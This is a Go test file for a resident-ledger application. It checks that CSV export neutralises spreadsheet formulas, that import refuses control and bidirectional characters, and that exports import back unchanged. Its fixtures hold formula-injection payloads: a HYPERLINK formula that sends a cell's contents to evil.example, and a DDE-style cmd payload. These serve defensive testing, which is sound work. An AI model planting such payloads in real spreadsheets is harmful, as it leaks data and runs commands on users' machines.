package ledger_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/wangge/wangge"
	"github.com/wangge/wangge/ledger"
)

// TestCSVCellNeutralisesFormulas: a cell a spreadsheet would run as a
// formula gets a leading apostrophe, a plain number does not, a cell that
// begins with an apostrophe gets another; and the importer's reading of
// every cell gives back the value written.
func TestCSVCellNeutralisesFormulas(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"'abc", "''abc"},
		{"'=1", "''=1"},
		{"-5", "-5"},
		{"+8613800138000", "+8613800138000"},
		{"3.25", "3.25"},
		{"-0.5", "-0.5"},
		{"王建国", "王建国"},
		{"140499001001001", "140499001001001"},
		{"a=b", "a=b"},
		{"", ""},
	} {
		got := ledger.CSVCell(c.in)
		if got != c.want {
			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := ledger.CleanCell(got); back != strings.TrimSpace(c.in) && !strings.HasPrefix(c.in, "\t") && !strings.HasPrefix(c.in, "\r") {
			t.Errorf("%q reads back as %q", c.in, back)
		}
	}
}

// TestImportRefusesControlCharactersInText: a name or other text cell with
// a control character or a bidirectional override is refused, naming the
// column and the character; spaces at either end are trimmed as before.
func TestImportRefusesControlCharactersInText(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct {
		col, value, code string
	}{
		{ledger.ColName, "王\x00建国", "U+0000"},
		{ledger.ColName, "王\x1b[31m建国", "U+001B"},
		{ledger.ColName, "王\u202e国建", "U+202E"},
		{ledger.ColName, "王\u2066建国", "U+2066"},
		{ledger.ColName, "王\u0085建国", "U+0085"},
		{ledger.ColNote, "第一行\n第二行", "U+000A"},
		{ledger.ColHouseNumber, "A\x7f", "U+007F"},
		{ledger.ColEthnicity, "汉\u200f族", "U+200F"},
	} {
		cells := personRow(e, with(goodPerson(e, 1), c.col, c.value))
		m, err := ledger.MatchHeader(&ledger.Persons, personHeader)
		must(t, err)
		row := ledger.ParseRow(m, 2, cells)
		found := false
		for _, d := range row.Errors {
			if d.Field == c.col && strings.Contains(d.Zh, c.code) && strings.Contains(d.Zh, "控制字符") && strings.Contains(d.Message, c.code) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s %q: %+v", c.col, c.value, row.Errors)
		}
	}
	cells := personRow(e, with(goodPerson(e, 1), ledger.ColName, " 王建国\t", ledger.ColNote, "=HYPERLINK(\"x\")"))
	m, _ := ledger.MatchHeader(&ledger.Persons, personHeader)
	if row := ledger.ParseRow(m, 2, cells); len(row.Errors) > 0 || row.Person.Name != "王建国" {
		t.Errorf("a clean row: %+v %+v", row.Errors, row.Person)
	}
}

// TestCSVExportNeutralisesFormulasAndImportsBack: persons whose names and
// notes look like formulas are exported to CSV with each such cell
// neutralised (the raw file read as plain CSV), and the file imports back
// with every row unchanged.
func TestCSVExportNeutralisesFormulasAndImportsBack(t *testing.T) {
	e := newEnv(t)
	hostile := []struct{ name, note string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "@SUM(A1:A9)"},
		{"+王建国", "-"},
		{"-李秀英", "''已核实"}, // stored as '已核实: the import strips one
		{"@张伟", "-5"},
	}
	rows := [][]string{personHeader}
	for i, h := range hostile {
		rows = append(rows, personRow(e, with(goodPerson(e, i+1), ledger.ColName, h.name, ledger.ColNote, h.note, ledger.ColRoom, "10"+string(rune('1'+i)))))
	}
	if rep := e.importFile(ledger.KindPersons, xlsxFile(t, rows), false); rep.Counts.Added != len(hostile) {
		t.Fatalf("setup: %+v %+v", rep.Counts, rep.Rows)
	}
	area, err := e.db.Area(e.ctx, community)
	must(t, err)
	x := &ledger.Export{Kind: ledger.ExportResidents, Format: ledger.FormatCSV, Area: area, Scope: e.scope, Terms: e.scope,
		Exporter: "importer", Reason: "年度核查", Now: time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)}
	var buf bytes.Buffer
	must(t, x.Write(e.ctx, e.db, &buf))

	_, body, _ := strings.Cut(buf.String(), "\n") // the title line
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	must(t, err)
	cells := map[string]bool{}
	for _, r := range recs[1:] {
		for _, c := range r {
			cells[c] = true
			if c != "" && strings.ContainsRune("=+@", rune(c[0])) {
				t.Errorf("a raw formula cell: %q", c)
			}
			if c != "" && c[0] == '-' && c != "-5" {
				t.Errorf("a raw formula cell: %q", c)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'@SUM(A1:A9)", "'+王建国", "'-", "'-李秀英", "''已核实", "'@张伟", "-5"} {
		if !cells[want] {
			t.Errorf("the export lacks the cell %q", want)
		}
	}

	path := t.TempDir() + "/residents.csv"
	must(t, os.WriteFile(path, buf.Bytes(), 0o600))
	before := e.snapshot()
	rep := e.importFile(ledger.KindPersons, path, false)
	if rep.Counts.Unchanged != len(hostile) || rep.Counts.Added+rep.Counts.Updated+rep.Counts.Rejected != 0 || e.snapshot() != before {
		t.Errorf("imported back: %+v %+v", rep.Counts, rep.Rows)
	}
	ps, _, err := e.db.ListPersons(e.ctx, e.scope, wangge.PersonFilter{})
	must(t, err)
	names := map[string]bool{}
	for _, p := range ps {
		names[p.Name] = true
	}
	for _, h := range hostile {
		if !names[h.name] || names["'"+h.name] {
			t.Errorf("no person %q after the round trip: %v", h.name, names)
		}
	}
}
